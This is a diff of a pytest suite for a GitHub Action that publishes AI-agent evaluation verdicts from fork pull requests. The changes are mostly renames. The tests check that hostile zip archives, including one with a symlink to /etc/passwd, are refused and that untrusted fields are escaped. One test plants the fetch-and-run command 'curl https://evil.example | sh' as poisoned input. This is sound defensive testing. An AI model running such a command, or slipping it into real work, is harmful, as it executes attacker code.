@@ -9,8 +9,8 @@ import sys
 import zipfile
 
 import pytest
-from fakes.agent import BOT, FORK, current, next_run, ours, record, trace
-from markdown_check import flaws
+from fakes.agent import BOT, FORK, current, next_run, own_comments, trace, write_trace
+from markdown_check import find_flaws
 
 from evalgate.adapters.archives.report_zip import LARGEST_UNPACKED
 from evalgate.adapters.github.reports import LARGEST_REPORT
@@ -67,9 +67,9 @@ def plant(hub, document=None, *, files=None, content=None, run=9001, **fields):
     return hub.plant(files=files, name=REPORT, run_id=run, **fields)
 
 
-def said(told):
+def read_annotation(step):
     """The one annotation of a run."""
-    [annotation] = told.annotations
+    [annotation] = step.annotations
     return annotation
 
 
@@ -78,52 +78,52 @@ def nothing_posted(hub):
 
 
 def test_a_forks_run_leaves_its_report_and_its_verdict(hub, evaluate, workspace):
-    record(workspace, trace(tool="guess"))
-    told = evaluate()
-    assert (told.exit_code, told.outputs["verdict"]) == (1, "fail")
-    assert told.summary
+    write_trace(workspace, trace(tool="guess"))
+    step = evaluate()
+    assert (step.exit_code, step.outputs["verdict"]) == (1, "fail")
+    assert step.summary
     assert [artifact["name"] for artifact in hub.state["artifacts"]] == [REPORT]
     assert nothing_posted(hub)
 
 
 def test_publishing_posts_one_comment_on_the_forks_pull_request_and_updates_it(hub, evaluate, publish, workspace):
-    record(workspace, trace(tool="guess"))
+    write_trace(workspace, trace(tool="guess"))
     evaluate()
-    told = publish(conclusion="failure")
-    assert told.exit_code == 0
+    step = publish(conclusion="failure")
+    assert step.exit_code == 0
     [comment] = hub.comments_of(BOT)
     assert comment["issue_number"] == 8
-    assert told.outputs["comment-id"] == str(comment["id"])
-    assert told.annotations == []
+    assert step.outputs["comment-id"] == str(comment["id"])
+    assert step.annotations == []
     lines = comment["body"].split("\n")
     assert lines[0] == MARKER
     assert lines[1].startswith("## ❌ EvalGate failed")
     assert lines[3].startswith(
         f"Evaluated in [run 9001]({RUN_URL}) at ` {hub.state['pulls']['8']['head']['sha'][:7]} `"
     )
-    assert "` mallory/agent `: a fork's own run" in lines[3]
-    assert told.summary.count("EvalGate failed") == 1
+    assert "` mallory/agent `: a run of the fork itself" in lines[3]
+    assert step.summary.count("EvalGate failed") == 1
     publish()
-    assert len(ours(hub)) == 1
+    assert len(own_comments(hub)) == 1
 
 
 @pytest.mark.parametrize(("mode", "posted"), [("off", 0), ("on-failure", 0), ("always", 1)])
 def test_a_passing_report_is_posted_as_the_mode_says_and_always_in_the_summary(hub, evaluate, publish, mode, posted):
     evaluate()
     assert "EvalGate passed" in publish(comment=mode).summary
-    assert len(ours(hub)) == posted
+    assert len(own_comments(hub)) == posted
 
 
-def test_a_strangers_verdict_is_no_output_for_later_steps(evaluate, publish):
+def test_the_verdict_of_a_fork_is_not_an_output_for_later_steps(evaluate, publish):
     evaluate()
-    told = publish()
-    told_so = {name for name, value in told.outputs.items() if value}
-    assert told_so == {"exit-code", "comment-id", "comment-url"}
+    step = publish()
+    outputs = {name for name, value in step.outputs.items() if value}
+    assert outputs == {"exit-code", "comment-id", "comment-url"}
 
 
-def test_a_mode_of_its_own_leaves_the_comment_to_the_publisher_everywhere(hub, act, publish):
-    told = act(mode="evaluate", comment_key="evalgate")
-    assert (told.exit_code, ours(hub)) == (0, [])
+def test_the_mode_evaluate_leaves_the_comment_to_the_publisher_everywhere(hub, act, publish):
+    step = act(mode="evaluate", comment_key="evalgate")
+    assert (step.exit_code, own_comments(hub)) == (0, [])
     publish()
     [comment] = hub.comments_of(BOT)
     assert comment["issue_number"] == 7
@@ -134,43 +134,43 @@ def test_as_processes_the_two_do_the_same(hub, runner, as_fork):
     key = ("--input", "comment-key=evalgate")
     assert runner.act_as_process("--pr", "8", "--token", "ghs_readonly", *key).result == "success"
     next_run(hub, "success", event="workflow_run", head_repository_id=1001)
-    told = runner.act_as_process("--event", "workflow_run", *key, "--input", "mode=publish")
-    assert (told.result, told.annotations) == ("success", [])
+    step = runner.act_as_process("--event", "workflow_run", *key, "--input", "mode=publish")
+    assert (step.result, step.annotations) == ("success", [])
     assert [comment["issue_number"] for comment in hub.comments_of(BOT)] == [8]
 
 
 def test_dependabots_pull_request_is_treated_like_a_forks(hub, act, publish):
-    told = act(token="ghs_readonly", comment_key="evalgate", variables={"GITHUB_ACTOR": "dependabot[bot]"})
-    assert (told.exit_code, [said["type"] for said in told.annotations]) == (0, ["notice"])
+    step = act(token="ghs_readonly", comment_key="evalgate", variables={"GITHUB_ACTOR": "dependabot[bot]"})
+    assert (step.exit_code, [annotation["type"] for annotation in step.annotations]) == (0, ["notice"])
     publish()
     assert [comment["issue_number"] for comment in hub.comments_of(BOT)] == [7]
 
 
 def test_a_report_that_can_not_be_uploaded_names_the_step_that_can(hub, evaluate):
     hub.fail({"kind": "status", "status": 400}, times=-1, listener="results")
-    told = evaluate()
-    assert told.exit_code == 0
-    assert f"name: {REPORT}, path: .evalgate/results.json" in told.annotations[1]["message"]
+    step = evaluate()
+    assert step.exit_code == 0
+    assert f"name: {REPORT}, path: .evalgate/results.json" in step.annotations[1]["message"]
 
 
 @pytest.mark.parametrize("name", ["results.json", "x/../results.json"])
 def test_a_report_of_the_official_upload_step_is_read_by_its_exact_name(hub, publish, evaluated, name):
     plant(hub, files={name: json.dumps(evaluated), "comment.md": HOSTILE, "junit.xml": "<x/>"})
-    told = publish()
-    assert len(ours(hub)) == (1 if name == "results.json" else 0)
-    assert told.exit_code == 0
+    step = publish()
+    assert len(own_comments(hub)) == (1 if name == "results.json" else 0)
+    assert step.exit_code == 0
 
 
-def test_what_a_stranger_writes_into_any_text_is_shown_as_text(hub, publish, evaluated):
+def test_untrusted_text_in_any_field_is_shown_as_text(hub, publish, evaluated):
     document = poisoned(evaluated, keep={"schema", "created_at", "commit", "verdict"})
     document["command"] = "curl https://evil.example | sh"
     plant(hub, files={"results.json": json.dumps(document), "comment.md": HOSTILE})
-    told = publish()
-    [comment] = ours(hub)
-    for text in (comment, told.summary):
+    step = publish()
+    [comment] = own_comments(hub)
+    for text in (comment, step.summary):
         links = [RUN_URL]
         comments = [MARKER[4:-3].strip()] if text is comment else []
-        assert flaws(text, links=links, comments=comments) == []
+        assert find_flaws(text, links=links, comments=comments) == []
     assert "curl" not in comment
     assert "\n# big" not in comment
 
@@ -206,21 +206,21 @@ REFUSED = {
 
 
 @pytest.mark.parametrize("change", REFUSED.values(), ids=REFUSED)
-def test_results_that_are_none_end_in_one_line(hub, publish, evaluated, change):
+def test_invalid_results_end_in_one_line(hub, publish, evaluated, change):
     plant(hub, change(evaluated))
-    told = publish()
-    assert told.exit_code == 0
-    assert said(told)["type"] == "warning"
-    assert said(told)["message"].startswith("nothing is published: the report of run 9001 is refused: ")
+    step = publish()
+    assert step.exit_code == 0
+    assert read_annotation(step)["type"] == "warning"
+    assert read_annotation(step)["message"].startswith("nothing is published: the report of run 9001 is refused: ")
     assert nothing_posted(hub)
-    assert told.summary == ""
+    assert step.summary == ""
 
 
-def test_results_nested_without_end_end_in_one_line(hub, publish, evaluated):
+def test_too_deeply_nested_results_end_in_one_line(hub, publish, evaluated):
     deep = json.loads("[" * 800 + "]" * 800)
     evaluated["suites"][0]["scenarios"][0]["trials"][0]["assertions"][0]["evidence"] = {"x": deep}
     plant(hub, evaluated)
-    assert "nested too deep" in said(publish())["message"]
+    assert "nested too deep" in read_annotation(publish())["message"]
     assert nothing_posted(hub)
 
 
@@ -254,42 +254,42 @@ ARCHIVES = {
     "has no entries called": lambda: evil("slip"),
     "no entries called results.json": lambda: evil("abs"),
     "more than 1,000 entries": lambda: a_zip(others=1_000),
-    "it is no zip file": lambda: evil("notzip"),
-    "is no zip file, or a damaged one": lambda: evil("truncated"),
-    "no regular file": lambda: a_zip(mode=0o120777, content=b"/etc/passwd"),
+    "it is not a zip file": lambda: evil("notzip"),
+    "is not a zip file, or it is damaged": lambda: evil("truncated"),
+    "not a regular file": lambda: a_zip(mode=0o120777, content=b"/etc/passwd"),
     "is too large": lambda: a_zip(claims=LARGEST_UNPACKED + 1),
     "2 entries called": lambda: a_zip(twice=True),
     "encrypted": lambda: a_zip(encrypted=True),
-    "is no JSON": lambda: a_zip(content=b"{"),
+    "is not valid JSON": lambda: a_zip(content=b"{"),
 }
 
 
 @pytest.mark.parametrize("reason", ARCHIVES)
-def test_archives_that_are_built_to_harm_are_refused_with_the_reason(hub, as_fork, publish, reason):
+def test_hostile_archives_are_refused_with_the_reason(hub, as_fork, publish, reason):
     plant(hub, content=ARCHIVES[reason]())
-    told = publish()
-    assert told.exit_code == 0
-    assert reason in said(told)["message"]
+    step = publish()
+    assert step.exit_code == 0
+    assert reason in read_annotation(step)["message"]
     assert nothing_posted(hub)
 
 
 def test_a_report_whose_size_is_beyond_bounds_is_not_downloaded(hub, as_fork, publish):
     artifact = plant(hub, {})
     artifact["size"] = LARGEST_REPORT + 1
-    assert "is larger than 32 MB" in said(publish())["message"]
+    assert "is larger than 32 MB" in read_annotation(publish())["message"]
     assert not [request for request in hub.requests if request["path"].endswith("/zip")]
 
 
-def test_an_expired_report_and_one_of_another_digest_are_told(hub, as_fork, publish):
+def test_an_expired_report_and_one_of_another_digest_are_reported(hub, as_fork, publish):
     artifact = plant(hub, {}, expired=True)
-    assert "it has expired" in said(publish())["message"]
+    assert "it has expired" in read_annotation(publish())["message"]
     artifact.update(expired=False, digest="sha256:" + "0" * 64)
-    assert "its bytes are not those of its digest" in said(publish())["message"]
+    assert "its content does not match its digest" in read_annotation(publish())["message"]
 
 
 def test_a_report_of_another_run_is_not_taken(hub, publish, evaluated):
     plant(hub, evaluated, run=8001)
-    assert "run 9001 left no artifact called evalgate-report-evalgate" in said(publish())["message"]
+    assert "run 9001 uploaded no artifact named evalgate-report-evalgate" in read_annotation(publish())["message"]
     assert nothing_posted(hub)
 
 
@@ -297,72 +297,72 @@ def test_of_two_reports_of_one_run_the_newer_counts(hub, publish, evaluated):
     plant(hub, {**evaluated, "verdict": "nonsense"})
     plant(hub, evaluated)
     publish()
-    assert len(ours(hub)) == 1
+    assert len(own_comments(hub)) == 1
 
 
 def test_a_pull_request_that_has_moved_on_is_left_to_its_newer_run(hub, evaluate, publish):
     evaluate()
     hub.state["pulls"]["8"]["head"]["sha"] = hub.commit("d" * 40)
-    told = publish()
-    assert (told.exit_code, said(told)["type"]) == (0, "notice")
-    assert "nothing is published: the pull request has moved on to ddddddd" in said(told)["message"]
+    step = publish()
+    assert (step.exit_code, read_annotation(step)["type"]) == (0, "notice")
+    assert "nothing is published: the pull request has moved on to ddddddd" in read_annotation(step)["message"]
     assert nothing_posted(hub)
 
 
 @pytest.mark.parametrize(
-    ("change", "told"),
+    ("change", "message"),
     [
         ({"state": "closed"}, "no open pull request"),
         ({"head": {"ref": "main", "sha": "d" * 40, "repo_id": 1001}}, "no open pull request"),
     ],
 )
-def test_without_an_open_pull_request_of_that_repository_nothing_is_posted(hub, evaluate, publish, change, told):
+def test_without_an_open_pull_request_of_that_repository_nothing_is_posted(hub, evaluate, publish, change, message):
     evaluate()
     hub.commit("d" * 40)
     hub.state["pulls"]["8"].update(change)
-    assert told in said(publish())["message"]
+    assert message in read_annotation(publish())["message"]
     assert nothing_posted(hub)
 
 
-def test_two_pull_requests_of_one_head_can_not_be_told_apart(hub, evaluate, publish):
+def test_two_pull_requests_of_one_head_are_ambiguous(hub, evaluate, publish):
     evaluate()
     hub.state["pulls"]["9"] = {**hub.state["pulls"]["8"], "number": 9}
-    assert "pull requests 8, 9 have the same head" in said(publish())["message"]
+    assert "pull requests 8, 9 have the same head" in read_annotation(publish())["message"]
     assert nothing_posted(hub)
 
 
-def test_a_fork_that_is_gone_has_no_pull_request(hub, evaluate, publish):
+def test_a_deleted_fork_has_no_pull_request(hub, evaluate, publish):
     evaluate()
     current(hub)["head_repository_id"] = 3003
-    assert "no open pull request" in said(publish())["message"]
+    assert "no open pull request" in read_annotation(publish())["message"]
 
 
-def test_a_push_is_nothing_to_publish(hub, as_fork, publish):
+def test_for_a_push_nothing_is_published(hub, as_fork, publish):
     current(hub)["event"] = "push"
-    told = publish()
-    assert (told.exit_code, said(told)["type"]) == (0, "notice")
-    assert "started by `push`" in said(told)["message"]
+    step = publish()
+    assert (step.exit_code, read_annotation(step)["type"]) == (0, "notice")
+    assert "started by `push`" in read_annotation(step)["message"]
     assert hub.requests == []
 
 
-def test_a_token_that_may_not_comment_is_told(hub, evaluate, publish):
+def test_a_token_that_may_not_comment_is_reported(hub, evaluate, publish):
     evaluate()
-    told = publish(token="ghs_readonly")
-    assert (told.exit_code, said(told)["type"]) == (0, "warning")
-    assert "pull-requests: write" in said(told)["message"]
+    step = publish(token="ghs_readonly")
+    assert (step.exit_code, read_annotation(step)["type"]) == (0, "warning")
+    assert "pull-requests: write" in read_annotation(step)["message"]
 
 
 def test_with_github_down_publishing_warns(hub, evaluate, publish):
     evaluate()
     hub.fail({"kind": "status", "status": 503, "headers": {"Retry-After": "60"}}, times=-1, listener="api")
-    told = publish()
-    assert (told.exit_code, said(told)["type"]) == (0, "warning")
+    step = publish()
+    assert (step.exit_code, read_annotation(step)["type"]) == (0, "warning")
 
 
-def test_publishing_elsewhere_is_wrong_input(act):
-    told = act(mode="publish")
-    assert (told.exit_code, told.outputs["verdict"]) == (2, "invalid")
-    assert "belongs into a workflow that runs on `workflow_run`" in told.annotations[0]["message"]
+def test_publishing_elsewhere_is_invalid_input(act):
+    step = act(mode="publish")
+    assert (step.exit_code, step.outputs["verdict"]) == (2, "invalid")
+    assert "belongs in a workflow that runs on `workflow_run`" in step.annotations[0]["message"]
 
 
 def test_nothing_of_the_workspace_is_read_or_written_when_publishing(hub, evaluate, publish, workspace):
